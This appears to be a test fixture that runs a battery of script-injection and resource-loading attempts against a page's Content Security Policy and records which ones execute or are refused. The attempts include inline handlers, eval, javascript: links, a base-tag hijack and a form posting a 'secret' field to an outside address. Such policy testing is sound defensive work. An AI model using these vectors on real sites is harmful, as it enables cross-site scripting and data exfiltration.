/**
 * What injected markup or script would try, each by its name. Every one runs from a timer, because code that the test runner evaluates
 * is let off the policy. `run` notes an execution, `to` is an address at the stranger's.
 */
export const BATTERY = `
  const run = (what) => "globalThis.executed=(globalThis.executed??[]).concat('" + what + "')";
  const add = (tag, attributes, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const battery = {
    "inline script": () => { add("script", {}).textContent = run("inline"); const s = document.createElement("script"); s.textContent = run("inline"); document.head.append(s); },
    "inline handler": () => add("img", { src: "data:,", onerror: run("handler") }),
    "inline handler in markup": () => { add("div", {}).innerHTML = '<svg onload="' + run("svg") + '"></svg><img src="data:,x" onerror="' + run("markup") + '">'; },
    "javascript: link": () => add("a", { href: "javascript:" + run("link") }).click(),
    "eval": () => (0, eval)(run("eval")),
    "new Function": () => new Function(run("Function"))(),
    "timer of text": () => setTimeout(run("timer"), 0),
    "WebAssembly": () => { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); (globalThis.executed ??= []).push("wasm"); },
    "remote script": () => add("script", { src: to("script.js") }),
    "remote module": () => add("script", { type: "module", src: to("module.js") }),
    "dynamic import": () => import(to("import.js")),
    "script as data": () => add("script", { src: "data:text/javascript," + run("data") }),
    "script as blob": () => add("script", { src: URL.createObjectURL(new Blob([run("blob")])) }),
    "worker": () => new Worker(to("worker.js")),
    "remote style": () => add("link", { rel: "stylesheet", href: to("style.css") }),
    "inline style with an address": () => { add("style", {}).textContent = "@import '" + to("import.css") + "'; body { background: url(" + to("background") + ") }"; },
    "style attribute": () => add("p", { style: "background:url(" + to("attribute") + ")" }).offsetHeight,
    "image": () => add("img", { src: to("image") }),
    "image by script": () => { new Image().src = to("new-image"); },
    "font": () => { const font = new FontFace("stranger", "url(" + to("font") + ")"); document.fonts.add(font); void font.load().catch(() => undefined); },
    "audio": () => add("audio", { src: to("audio"), preload: "auto" }),
    "video": () => add("video", { src: to("video"), preload: "auto" }),
    "object": () => add("object", { data: to("object") }),
    "embed": () => add("embed", { src: to("embed") }),
    "frame": () => add("iframe", { src: to("frame") }),
    "frame of text": () => add("iframe", { srcdoc: "<script>top.executed=['srcdoc']</script>" }),
    "manifest": () => add("link", { rel: "manifest", href: to("manifest") }, document.head),
    "icon": () => add("link", { rel: "icon", href: to("icon") }, document.head),
    "web socket": () => new WebSocket(to("socket").replace("http", "ws")),
    "base": () => { add("base", { href: to("base/") }, document.head); add("img", { src: "relative" }); add("script", { src: "relative.js" }); },
    "form in a frame": () => { const form = add("form", { action: to("form-frame"), target: "_blank" }); form.submit(); },
    "form": () => { const form = add("form", { action: to("form"), method: "post" }); add("input", { name: "secret", value: "1" }, form); form.submit(); },
  };
  const threw = {};
  globalThis.refusals = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refusals.push(effectiveDirective));
  globalThis.batteryDone = (async () => {
    for (const [name, attempt] of Object.entries(battery)) {
      await new Promise((done) => setTimeout(() => {
        Promise.resolve().then(attempt).catch((error) => { threw[name] = String(error); }).finally(done);
      }, 40));
    }
    await new Promise((done) => setTimeout(done, 1500));
    return { tried: Object.keys(battery).length, executed: globalThis.executed ?? [], refusals: refusals.length, threw };
  })();
`;
